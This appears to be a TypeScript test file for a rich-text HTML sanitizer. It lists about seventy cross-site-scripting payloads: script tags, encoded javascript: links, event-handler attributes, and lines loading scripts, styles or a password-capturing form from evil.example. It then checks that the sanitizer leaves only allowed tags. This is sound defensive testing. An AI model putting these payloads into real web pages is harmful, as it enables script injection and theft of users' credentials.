import { fieldMeta, resources, richTextTags } from "@kindling/contract";
import { describe, expect, test } from "vitest";
import type { z } from "zod";
import type { Draft, Entity } from "../core/entities/entity.ts";
import { entities } from "../entities.ts";
import { cleanRichText } from "./richText.ts";

/** Known ways to inject scripts, requests or styles. */
const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<p>a</p><script src='https://evil.example/x.js'></script >",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=\"javascript:alert('x');\">",
  '<IMG """><SCRIPT>alert("x")</SCRIPT>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text x=0 y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<p onclick=alert(1)>x</p>",
  "<p onmouseover='alert(1)' style='position:fixed;inset:0'>x</p>",
  "<p style=\"background:url('javascript:alert(1)')\" class=MuiDialog-root id=root>x</p>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/auth/logout">x</a>',
  '<a href="blob:https://kind.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://kind.example" onclick="alert(1)" style="x" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<a name="x" id="root">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  "<embed src=javascript:alert(1)>",
  "<form action='https://evil.example'><input name=password><button>Send</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</option></select>",
  "<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>",
  "<textarea><script>alert(1)</script></textarea>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  "<style><img src='</style><img src=x onerror=alert(1)//'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<title><script>alert(1)</script></title>",
  "<template><script>alert(1)</script></template>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x onerror=alert(1) autoplay></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<div background='javascript:alert(1)'>x</div>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!doctype html><script>alert(1)</script>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<p><<script>alert(1)//<</script></p>",
  "</p><script>alert(1)</script><p>",
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<a/href='javascript:alert(1)'/onclick=alert(1)>x</a>",
  `${"<blockquote>".repeat(500)}<script>alert(1)</script>`,
];

const shape = new RegExp(
  `^(?:[^<>]|</?(?:${richTextTags.filter((tag) => tag !== "a").join("|")})(?: /)?>|</a>` +
    `|<a href="(?:https?|mailto):[^"<>]*" target="_blank" rel="noopener noreferrer nofollow">)*$`,
  "i",
);

describe("cleanRichText", () => {
  test.each(attacks)("leaves of %s nothing but what is allowed", (attack) => {
    const clean = cleanRichText(attack);
    expect(clean).toMatch(shape);
    expect(cleanRichText(clean)).toBe(clean);
    expect(cleanRichText(`<p>before ${attack} after</p>`)).toMatch(shape);
  });

  test("keeps every tag we offer, and links with what they need", () => {
    const text =
      "<h2>A</h2><h3>B</h3><h4>C</h4><p><strong>d</strong> <em>e</em> <u>f</u><br />g</p><blockquote><p>h</p></blockquote><hr /><ul><li>i</li></ul><ol><li>j</li></ol>";
    expect(cleanRichText(text)).toBe(text);
    for (const href of [
      "https://kind.example/a?b=c&amp;d=e",
      "http://kind.example",
      "mailto:ida@school.example",
    ])
      expect(cleanRichText(`<a href="${href}">x</a>`)).toBe(
        `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">x</a>`,
      );
  });

  test("writes other programs' tags as ours", () => {
    expect(
      cleanRichText(
        `<h1 class="MsoTitle">T</h1><p class="MsoNormal" style="mso-x:y"><b>b</b><i>i</i><span lang="EN">s</span><o:p></o:p></p><h6>k</h6>`,
      ),
    ).toBe("<h2>T</h2><p><strong>b</strong><em>i</em>s</p><h4>k</h4>");
  });

  test.each(["Breathe in.\n\n- one\n- two", "2 < 3 & 5 > 4", "a & b &amp; c", "1 <3", "Ñandú “quoted”", ""])(
    "leaves the plain text %j as it is",
    (text) => {
      expect(cleanRichText(text)).toBe(text);
    },
  );

  test("says of what shows nothing that it is empty", () => {
    for (const text of ["<p></p>", "<p> &nbsp; </p><p><br></p>", "<ul><li></li></ul>", "<script>x</script>"])
      expect(cleanRichText(text)).toBe("");
    expect(cleanRichText("<hr>")).toBe("<hr />");
  });
});

describe("every resource with a formatted text", () => {
  const formatted = Object.values(resources).flatMap((resource) =>
    Object.entries(resource.input.shape).flatMap(([field, schema]) =>
      fieldMeta(schema as z.ZodType)?.kind === "richText" ? [{ name: resource.name, field }] : [],
    ),
  );

  test.each(formatted)("has $name clean its $field before it is written", async ({ name, field }) => {
    const entity = entities.get(name) as Entity;
    const draft: Draft = { [field]: "<p onclick=x>kept</p><script>gone</script>" };
    const context = { language: "en", today: "2026-09-15" } as Parameters<NonNullable<Entity["check"]>>[2];
    await entity.check?.(undefined as never, draft, context);
    expect(draft[field]).toBe("<p>kept</p>");
  });

  test("is known to this test", () => {
    expect(formatted.map(({ name }) => name)).toEqual(
      expect.arrayContaining(["announcement", "mindfulOpen"]),
    );
  });
});
